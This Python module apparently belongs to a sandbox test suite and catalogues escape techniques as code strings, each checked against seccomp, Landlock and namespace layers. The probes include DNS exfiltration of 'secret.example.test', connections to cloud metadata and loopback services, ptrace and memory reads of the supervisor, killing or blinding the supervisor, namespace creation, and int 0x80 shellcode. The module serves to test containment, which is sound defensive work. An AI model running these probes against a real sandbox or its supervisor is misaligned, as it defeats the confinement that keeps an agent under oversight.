"""Ways out of a sandbox, as data: each is tried behind the walls and, as its positive control, without them.

Python source of a function body with `to` in sight (where the sink listens); it returns when it reached what it wanted
and raises OSError when it was refused. The same source runs in both places.
"""

from collections.abc import Mapping
from dataclasses import dataclass
from enum import StrEnum


class Layer(StrEnum):
    """What stopped it."""

    SECCOMP = "seccomp"
    LANDLOCK = "landlock"
    MOUNT = "mount namespace"
    PID_ONE = "PID 1"
    UNREADABLE = "unreadable supervisor"
    NO_NEW_PRIVILEGES = "no_new_privs"
    NAMESPACE = "namespaces"


class Control(StrEnum):
    """What the same source does without a sandbox, as root in a namespace of the test's own."""

    REACHES = "reaches"
    REACHES_SINK = "reaches the sink"
    KERNEL_LACKS = "not in this kernel, or reaches"
    UNSAFE = "would harm the machine that tests: not tried"


@dataclass(frozen=True)
class Technique:
    name: str
    body: str
    event: Mapping[str, object] | None
    """What one event must say; None where no filtered system call is made, and so no event can be."""
    layer: Layer = Layer.SECCOMP
    error: str = "EPERM"
    control: Control = Control.REACHES


def _net(name: str, body: str, event: Mapping[str, object], control: Control = Control.REACHES_SINK) -> Technique:
    return Technique(name, body, {"kind": "network", **event}, control=control)


def _family(name: str, number: int, kind: int, protocol: int, family: str) -> Technique:
    body = f"os.close(call('socket', {number}, {kind}, {protocol}))"
    return _net(f"socket family {name}", body, {"syscall": "socket", "family": family}, Control.KERNEL_LACKS)


def _proto(name: str, kind: int, protocol: int) -> Technique:
    body = f"os.close(call('socket', 2, {kind}, {protocol}))"
    event = {"syscall": "socket", "family": "AF_INET", "detail": f"protocol={protocol}"}
    return _net(f"socket protocol {name}", body, event, Control.KERNEL_LACKS)


def _call(name: str, kind: str, body: str, syscall: str, control: Control = Control.REACHES) -> Technique:
    return Technique(name, body, {"kind": kind, "syscall": syscall}, control=control)


def _file(name: str, body: str, error: str, layer: Layer) -> Technique:
    return Technique(name, body, None, layer=layer, error=error)


_V4 = {"address": "192.0.2.1", "family": "AF_INET"}
_V6 = {"address": "2001:db8::1", "family": "AF_INET6"}
_QUERY = r"query = b'\x12\x34\x01\x00\x00\x01' + bytes(6) + b'\x06secret\x07example\x04test\x00\x00\x01\x00\x01'"

TECHNIQUES: tuple[Technique, ...] = (
    _net(
        "TCP v4",
        "s = socket.create_connection((to['v4'], to['port']), 5); s.sendall(b'x' * 64)",
        {"syscall": "connect", **_V4},
    ),
    _net(
        "TCP v6",
        "s = socket.create_connection((to['v6'], to['port']), 5); s.sendall(b'x' * 64)",
        {"syscall": "connect", **_V6},
    ),
    _net(
        "TCP to instance metadata",
        "s = socket.create_connection(('169.254.169.254', to['port']), 5); s.sendall(b'GET /')",
        {"syscall": "connect", "address": "169.254.169.254"},
    ),
    _net(
        "TCP to a service of the host on loopback",
        "s = socket.create_connection(('127.0.0.1', to['port']), 5); s.sendall(b'x')",
        {"syscall": "connect", "address": "127.0.0.1"},
    ),
    _net(
        "TCP by a mapped v4 address",
        "s = socket.create_connection(('::ffff:192.0.2.1', to['port']), 5); s.sendall(b'x')",
        {"syscall": "connect", "address": "::ffff:192.0.2.1"},
    ),
    _net(
        "TCP without waiting",
        "s = socket.socket(); s.setblocking(False); e = s.connect_ex((to['v4'], to['port']))\n"
        "if e not in (0, errno.EINPROGRESS): raise OSError(e, '')\n"
        "select.select([], [s], [], 5); s.send(b'x')",
        {"syscall": "connect", **_V4},
    ),
    _net(
        "TCP fast open",
        "s = socket.socket(); s.sendto(b'x' * 16, 0x20000000, (to['v4'], to['port']))",
        {"syscall": "sendto", **_V4},
    ),
    _net("UDP v4", "socket.socket(2, 2).sendto(b'x' * 64, (to['v4'], to['port']))", {"syscall": "sendto", **_V4}),
    _net("UDP v6", "socket.socket(10, 2).sendto(b'x' * 64, (to['v6'], to['port']))", {"syscall": "sendto", **_V6}),
    _net(
        "UDP connected",
        "s = socket.socket(2, 2); s.connect((to['v4'], to['port'])); s.send(b'x')",
        {"syscall": "connect", **_V4},
    ),
    _net(
        "UDP by sendmsg",
        "socket.socket(2, 2).sendmsg([b'x' * 64], [], 0, (to['v4'], to['port']))",
        {"syscall": "sendmsg", **_V4},
    ),
    _net(
        "DNS query by hand",
        f"{_QUERY}; socket.socket(2, 2).sendto(query, (to['v4'], 53))",
        {"syscall": "sendto", "name": "secret.example.test", "port": 53},
    ),
    _net(
        "DNS query by hand in a message",
        f"{_QUERY}; socket.socket(2, 2).sendmsg([query], [], 0, (to['v4'], 53))",
        {"syscall": "sendmsg", "name": "secret.example.test"},
    ),
    # The sink knows no name: that libc fails says nothing, that the sink hears it does.
    Technique(
        "DNS query by libc",
        "try: socket.getaddrinfo('secret.example.test', 80)\nexcept socket.gaierror as e: deny()",
        {"kind": "network", "syscall": "sendmmsg", "name": "secret.example.test"},
        control=Control.REACHES_SINK,
    ),
    Technique(
        "DNS query by libc, v4 only",
        "try: socket.gethostbyname('secret4.example.test')\nexcept socket.gaierror as e: deny()",
        {"kind": "network", "syscall": "sendto", "name": "secret4.example.test"},
        control=Control.REACHES_SINK,
    ),
    _net(
        "DNS over TCP",
        "s = socket.create_connection((to['v4'], 53), 5); s.sendall(b'x' * 30)",
        {"syscall": "connect", "address": "192.0.2.1", "port": 53},
    ),
    _net(
        "a server",
        "s = socket.socket(); s.bind(('0.0.0.0', 0)); s.listen()",
        {"syscall": "bind", "address": "0.0.0.0"},
        Control.REACHES,
    ),
    _net("a server on any port", "socket.socket().listen()", {"syscall": "listen"}, Control.REACHES),
    _net(
        "multicast membership v4",
        "socket.socket(2, 2).setsockopt(0, 35, socket.inet_aton('233.252.0.7') + socket.inet_aton(to['v4']))",
        {"syscall": "setsockopt", "address": "233.252.0.7"},
        Control.REACHES,
    ),
    _net(
        "multicast membership v6",
        "socket.socket(10, 2).setsockopt(41, 20, socket.inet_pton(10, 'ff0e::db8:7') + struct.pack('I', 1))",
        {"syscall": "setsockopt", "address": "ff0e::db8:7"},
        Control.REACHES,
    ),
    _net(
        "raw ICMP",
        "socket.socket(2, 3, 1).sendto(b'\\x08\\0\\xf7\\xff' + bytes(4), (to['v4'], 0))",
        {"syscall": "socket", "type": "SOCK_RAW", "family": "AF_INET"},
        Control.REACHES,
    ),
    _net("raw IPv6", "socket.socket(10, 3, 58).close()", {"syscall": "socket", "family": "AF_INET6"}, Control.REACHES),
    _net(
        "frames on a wire",
        "s = socket.socket(17, 3, 0); s.bind(('lo', 0x0800)); s.send(bytes(14) + b'\\x45' + bytes(40))",
        {"syscall": "socket", "family": "AF_PACKET"},
        Control.REACHES,
    ),
    _net("netlink route", "socket.socket(16, 3, 0).close()", {"family": "AF_NETLINK"}, Control.REACHES),
    _net("netlink kobject", "socket.socket(16, 2, 15).close()", {"family": "AF_NETLINK"}, Control.REACHES),
    _net(
        "unix stream to a socket file",
        "s = socket.socket(1, 1); s.connect(to['unix']); s.send(b'x' * 64)",
        {"syscall": "socket", "family": "AF_UNIX"},
    ),
    _net(
        "unix datagram to a socket file",
        "socket.socket(1, 2).sendto(b'x' * 64, to['unix_datagram'])",
        {"syscall": "socket", "family": "AF_UNIX"},
    ),
    _net(
        "unix abstract",
        "s = socket.socket(1, 1); s.connect('\\0' + to['abstract']); s.send(b'x' * 64)",
        {"syscall": "socket", "family": "AF_UNIX"},
    ),
    _net(
        "unix abstract by a socketpair's end",
        "a, b = socket.socketpair(1, 2); a.sendto(b'x' * 64, '\\0' + to['abstract_datagram'])",
        {"syscall": "sendto", "family": "AF_UNIX"},
    ),
    _family("VSOCK", 40, 1, 0, "AF_VSOCK"),
    _family("ALG", 38, 5, 0, "AF_ALG"),
    _family("XDP", 44, 3, 0, "AF_XDP"),
    _family("BLUETOOTH", 31, 3, 1, "AF_BLUETOOTH"),
    _family("TIPC", 30, 4, 0, "AF_TIPC"),
    _family("CAN", 29, 3, 1, "AF_CAN"),
    _family("RDS", 21, 5, 0, "AF_RDS"),
    _family("SMC", 43, 1, 0, "AF_SMC"),
    _family("KCM", 41, 2, 0, "AF_41"),
    _family("QIPCRTR", 42, 2, 0, "AF_QIPCRTR"),
    _family("MCTP", 45, 2, 0, "AF_MCTP"),
    _proto("ping", 2, 1),
    _proto("SCTP", 1, 132),
    _proto("MPTCP", 1, 262),
    _proto("UDP-Lite", 2, 136),
    _net(
        "family hidden above 32 bits",
        "os.close(call('socket', (1 << 32) | 16, 3, 0))",
        {"syscall": "socket", "family": "AF_NETLINK"},
        Control.REACHES,
    ),
    Technique(
        "i386 socket by int 0x80",
        "fd = int80(359, 2, 1, 0)\nif fd < 0: raise OSError(-fd, '')",
        {"kind": "foreign_abi", "syscall": "i386:socket"},
        control=Control.KERNEL_LACKS,
    ),
    Technique(
        "i386 socketcall by int 0x80",
        "n = int80(102, 1, args32(2, 2, 0), 0)\nif n < 0: raise OSError(-n, '')",
        {"kind": "foreign_abi", "syscall": "i386:socketcall"},
        control=Control.KERNEL_LACKS,
    ),
    Technique(
        "x32 socket",
        "os.close(number(0x40000000 | 41, 2, 1, 0))",
        {"kind": "foreign_abi", "syscall": "x32:socket"},
        control=Control.KERNEL_LACKS,
    ),
    _call("io_uring", "kernel", "p = buffer(120); os.close(call('io_uring_setup', 1, p))", "io_uring_setup"),
    _call("bpf", "kernel", "call('bpf', 0, buffer(struct.pack('IIII', 2, 4, 4, 1) + bytes(60)), 72)", "bpf"),
    _call(
        "perf events",
        "kernel",
        "os.close(call('perf_event_open', buffer(struct.pack('IIQ', 1, 112, 0) + bytes(96)), 0, -1, -1, 0))",
        "perf_event_open",
        Control.KERNEL_LACKS,
    ),
    _call("userfaultfd", "kernel", "os.close(call('userfaultfd', 1))", "userfaultfd"),
    _call("a key", "kernel", "call('add_key', b'user', b'sequester', b'x', 1, -1)", "add_key", Control.KERNEL_LACKS),
    _call("a keyring", "kernel", "call('keyctl', 0, -3, 1)", "keyctl", Control.KERNEL_LACKS),
    _call("a kernel module", "kernel", "call('init_module', buffer(8), 8, b'')", "init_module", Control.UNSAFE),
    _call("another kernel", "kernel", "call('kexec_load', 0, 0, 0, 0)", "kexec_load", Control.UNSAFE),
    _call("reboot", "kernel", "call('reboot', 0xfee1dead, 672274793, 0)", "reboot", Control.UNSAFE),
    _call("the kernel's log", "kernel", "call('syslog', 10, 0, 0)", "syslog"),
    _call("the host's clock", "kernel", "call('clock_settime', 0, buffer(bytes(16)))", "clock_settime", Control.UNSAFE),
    _call("the host name", "kernel", "call('sethostname', b'x', 1)", "sethostname"),
    _call(
        "files by handle",
        "kernel",
        "call('open_by_handle_at', -100, buffer(16), 0)",
        "open_by_handle_at",
        Control.UNSAFE,
    ),
    _call(
        "file system events", "kernel", "os.close(call('fanotify_init', 0, 0))", "fanotify_init", Control.KERNEL_LACKS
    ),
    _call("port access", "kernel", "call('iopl', 3)", "iopl", Control.KERNEL_LACKS),
    _call("another personality", "kernel", "call('personality', 0x0400000)", "personality"),
    _call("memfd", "memory", "os.close(call('memfd_create', b'x', 0))", "memfd_create"),
    _call("a program in a memfd", "memory", "fd = os.memfd_create('x'); os.write(fd, b'#!/bin/sh\\n')", "memfd_create"),
    _call("secret memory", "memory", "os.close(call('memfd_secret', 0))", "memfd_secret", Control.KERNEL_LACKS),
    _call("a user namespace", "namespace", "fork_and(lambda: call('unshare', 0x10000000))", "unshare"),
    _call("a network namespace", "namespace", "fork_and(lambda: call('unshare', 0x40000000))", "unshare"),
    _call("a mount namespace", "namespace", "fork_and(lambda: call('unshare', 0x20000))", "unshare"),
    _call("another's namespace", "namespace", "fd = os.open('/proc/self/ns/net', 0); call('setns', fd, 0)", "setns"),
    _call(
        "clone into a user namespace",
        "namespace",
        "pid = call('clone', 0x10000000 | 17, 0, 0, 0, 0)\nif pid == 0: os._exit(0)\nos.waitpid(pid, 0)",
        "clone",
    ),
    Technique(
        "clone3 into a user namespace",
        "pid = call('clone3', buffer(struct.pack('8Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0)), 64)\n"
        "if pid == 0: os._exit(0)\nos.waitpid(pid, 0)",
        None,
        error="ENOSYS",
    ),
    _call("mount", "namespace", "call('mount', b'x', b'/tmp', b'tmpfs', 0, 0)", "mount"),
    _call("unmount", "namespace", "call('umount2', b'/proc', 2)", "umount2"),
    _call("chroot", "namespace", "fork_and(lambda: call('chroot', b'/tmp'))", "chroot"),
    _call("pivot_root", "namespace", "call('pivot_root', b'/tmp', b'/tmp')", "pivot_root", Control.UNSAFE),
    _call("a detached mount", "namespace", "os.close(call('fsopen', b'tmpfs', 0))", "fsopen"),
    _call("a copy of the tree", "namespace", "os.close(call('open_tree', -100, b'/', 1))", "open_tree"),
    _call("attach to the supervisor", "trace", "call('ptrace', 0x4206, os.getppid(), 0, 0)", "ptrace"),
    _call("be traced by the supervisor", "trace", "fork_and(lambda: call('ptrace', 0, 0, 0, 0))", "ptrace"),
    _call(
        "read the supervisor's memory",
        "trace",
        "b = buffer(8); v = buffer(struct.pack('QQ', ctypes.addressof(b), 8))\n"
        "r = buffer(struct.pack('QQ', here(), 8))\n"
        "call('process_vm_readv', os.getppid(), v, 1, r, 1, 0)",
        "process_vm_readv",
    ),
    _call(
        "write another process's memory",
        "trace",
        "b = buffer(bytes(8)); v = buffer(struct.pack('QQ', ctypes.addressof(b), 8)); w = buffer(8)\n"
        "r = buffer(struct.pack('QQ', ctypes.addressof(w), 8))\n"
        "call('process_vm_writev', os.getpid(), v, 1, r, 1, 0)",
        "process_vm_writev",
    ),
    _call(
        "take the supervisor's descriptors",
        "trace",
        "p = os.pidfd_open(os.getppid()); os.close(call('pidfd_getfd', p, 1, 0))",
        "pidfd_getfd",
    ),
    _call(
        "compare with the supervisor",
        "trace",
        "call('kcmp', os.getpid(), os.getppid(), 1, 0, 0)",
        "kcmp",
        Control.KERNEL_LACKS,
    ),
    _call("hide from the supervisor", "blind", "call('prctl', 4, 0, 0, 0, 0)", "prctl"),
    _call("hide, above 32 bits", "blind", "call('prctl', (1 << 32) | 4, 0, 0, 0, 0)", "prctl"),
    _call(
        "a filter of its own",
        "blind",
        "call('prctl', 38, 1, 0, 0, 0)\n"
        "p = buffer(struct.pack('HBBI', 6, 0, 0, 0x7fff0000))\n"
        "f = buffer(struct.pack('HxxxxxxP', 1, ctypes.addressof(p)))\n"
        "fork_and(lambda: call('seccomp', 1, 0, f))",
        "seccomp",
    ),
    _call(
        "the supervisor's limits",
        "supervisor",
        "call('prlimit64', os.getppid(), 7, buffer(struct.pack('QQ', 64, 1024)), 0)",
        "prlimit64",
    ),
    _call("the supervisor's processors", "supervisor", "os.sched_setaffinity(os.getppid(), {0})", "sched_setaffinity"),
    _call("the supervisor's priority", "supervisor", "os.setpriority(0, os.getppid(), 19)", "setpriority"),
    _call("everyone's priority", "supervisor", "os.setpriority(2, 0, 19)", "setpriority"),
    _call(
        "the supervisor's input and output", "supervisor", "call('ioprio_set', 1, os.getppid(), 3 << 13)", "ioprio_set"
    ),
    _call(
        "the supervisor's scheduler",
        "supervisor",
        "os.sched_setscheduler(os.getppid(), 5, os.sched_param(0))",
        "sched_setscheduler",
    ),
    _call(
        "type into the terminal",
        "device",
        "call('ioctl', os.openpty()[1], 0x5412, b'x')",
        "ioctl",
        Control.KERNEL_LACKS,
    ),
    _call(
        "type into the terminal, above 32 bits",
        "device",
        "call('ioctl', os.openpty()[1], (1 << 32) | 0x5412, b'x')",
        "ioctl",
        Control.KERNEL_LACKS,
    ),
    _call(
        "interface addresses",
        "device",
        "s = socket.socket(2, 2); call('ioctl', s.fileno(), 0x8912, buffer(16))",
        "ioctl",
    ),
    _call("a block device", "device", "os.mknod(tmp() + '/d', 0o60600, os.makedev(254, 0))", "mknodat"),
    _call("flush the host's disks", "resource", "call('sync')", "sync"),
    Technique("System V shared memory", "call('shmget', 0x5e90, 4096, 0o1600)", None, error="ENOSYS"),
    Technique("a message queue", "os.close(call('mq_open', b'x', 0o102, 0o600, 0))", None, error="ENOSYS"),
    _file(
        "the supervisor's memory as a file",
        "open(f'/proc/{os.getppid()}/mem', 'rb').close()",
        "EACCES",
        Layer.UNREADABLE,
    ),
    _file(
        "write the supervisor's memory", "open(f'/proc/{os.getppid()}/mem', 'r+b').close()", "EACCES", Layer.UNREADABLE
    ),
    _file("the supervisor's frames", "open(f'/proc/{os.getppid()}/fd/1', 'wb').close()", "EACCES", Layer.UNREADABLE),
    _file("the supervisor's events", "open(f'/proc/{os.getppid()}/fd/2', 'wb').close()", "EACCES", Layer.UNREADABLE),
    _file(
        "the supervisor's environment", "open(f'/proc/{os.getppid()}/environ', 'rb').read()", "EACCES", Layer.UNREADABLE
    ),
    _file("the supervisor's root", "os.listdir(f'/proc/{os.getppid()}/root/')", "EACCES", Layer.UNREADABLE),
    _file("kill the supervisor", "os.kill(os.getppid(), 9); wait_for_death(); deny()", "EPERM", Layer.LANDLOCK),
    _file("stop the supervisor", "os.kill(os.getppid(), 19); wait_for_death(); deny()", "EPERM", Layer.LANDLOCK),
    _file("interrupt the supervisor", "os.kill(os.getppid(), 2); wait_for_death(); deny()", "EPERM", Layer.LANDLOCK),
    _file("the host's files", "open(to['host_file']).read()", "ENOENT", Layer.MOUNT),
    _file("the host's devices", "os.listdir('/sys/class/net')", "ENOENT", Layer.MOUNT),
    _file(
        "a system file",
        "open('/etc/sequester-canary', 'w').close(); os.unlink('/etc/sequester-canary')",
        "EROFS|EACCES",
        Layer.MOUNT,
    ),
    _file(
        "a program",
        "open('/usr/bin/sequester-canary', 'w').close(); os.unlink('/usr/bin/sequester-canary')",
        "EROFS|EACCES",
        Layer.MOUNT,
    ),
    _file(
        "a file among devices",
        "open('/dev/sequester-canary', 'w').close(); os.unlink('/dev/sequester-canary')",
        "EROFS|EACCES",
        Layer.MOUNT,
    ),
    _file("a socket file", "os.mknod(tmp() + '/s', 0o140600)", "EPERM", Layer.SECCOMP),
    _file("a kernel setting", "open('/proc/sys/kernel/core_pattern', 'r+').close()", "EACCES", Layer.LANDLOCK),
    _file(
        "a setuid program",
        "import subprocess\n"
        "if subprocess.run(['su', 'root', '-c', 'id -u'], capture_output=True, stdin=-3).stdout.strip() != b'0' or"
        " open('/proc/self/uid_map').read().split()[2] == '1': raise OSError(errno.EPERM, '')",
        "EPERM",
        Layer.NO_NEW_PRIVILEGES,
    ),
    _file(
        "the environment of the agent",
        "os.environ['SEQUESTER_CANARY'] if 'SEQUESTER_CANARY' in os.environ else deny()",
        "EPERM",
        Layer.NAMESPACE,
    ),
    _file("the host's name", "deny() if os.uname().nodename == 'sandbox' else None", "EPERM", Layer.NAMESPACE),
    _file(
        "the host's processes",
        "deny() if max(int(p) for p in os.listdir('/proc') if p.isdigit()) < 20 else None",
        "EPERM",
        Layer.NAMESPACE,
    ),
    _file(
        "the host's interfaces",
        "deny() if len(open('/proc/net/dev').readlines()) <= 3 else None",
        "EPERM",
        Layer.NAMESPACE,
    ),
    _file(
        "inherited descriptors",
        "import stat\n"
        "deny() if all(stat.S_ISFIFO(os.fstat(n).st_mode) for n in range(3, 1024) if is_open(n)) else None",
        "EPERM",
        Layer.NAMESPACE,
    ),
)

PRELUDE = """
import ctypes, errno, mmap, os, select, signal, socket, struct, sys, tempfile, time
_libc = ctypes.CDLL(None, use_errno=True)
_NUMBERS = {NUMBERS}
def number(n, *args):
    converted = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    answer = _libc.syscall(ctypes.c_long(n), *converted)
    if answer < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return answer
def call(name, *args):
    return number(_NUMBERS[name], *args)
def buffer(content):
    return ctypes.create_string_buffer(content, content if isinstance(content, int) else len(content))
def here():
    return id(None)
def fork_and(step):
    pid = os.fork()
    if pid == 0:
        try:
            step()
        except OSError as error:
            os._exit(error.errno)
        os._exit(0)
    status = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if status:
        raise OSError(status, os.strerror(status))
def deny():
    raise OSError(errno.EPERM, "not seen")
def is_open(n):
    try:
        os.fstat(n)
    except OSError:
        return False
    return True
def tmp():
    return tempfile.mkdtemp()
def wait_for_death():
    time.sleep(0.2)
_low = []
def low32(content):
    page = _libc.mmap
    page.restype = ctypes.c_void_p
    at = page(None, ctypes.c_size_t(4096), 7, 0x22 | 0x40, -1, ctypes.c_size_t(0))
    ctypes.memmove(at, content, len(content))
    return at
def args32(*values):
    return low32(struct.pack(f"{len(values)}I", *values))
def int80(n, b, c, d):
    # push rbx; mov eax, n; mov ebx, b; mov ecx, c; mov edx, d; int 0x80; pop rbx; ret
    word = struct.Struct("I").pack
    machine = b"\\x53\\xb8" + word(n) + b"\\xbb" + word(b) + b"\\xb9" + word(c) + b"\\xba" + word(d)
    machine += b"\\xcd\\x80\\x5b\\xc3"
    return ctypes.CFUNCTYPE(ctypes.c_int)(low32(machine))()
"""

EPILOGUE = """
try:
    attempt(data)
    result = {"reached": True, "error": ""}
except OSError as error:
    result = {"reached": False, "error": errno.errorcode.get(error.errno, str(error.errno))}
"""


def source(technique: Technique, numbers: dict[str, int]) -> str:
    """The whole program of a technique: it leaves {"reached", "error"} in `result`."""
    body = "".join(f"    {line}\n" for line in technique.body.splitlines())
    return f"{PRELUDE.replace('{NUMBERS}', repr(numbers))}\ndef attempt(to):\n{body}{EPILOGUE}"
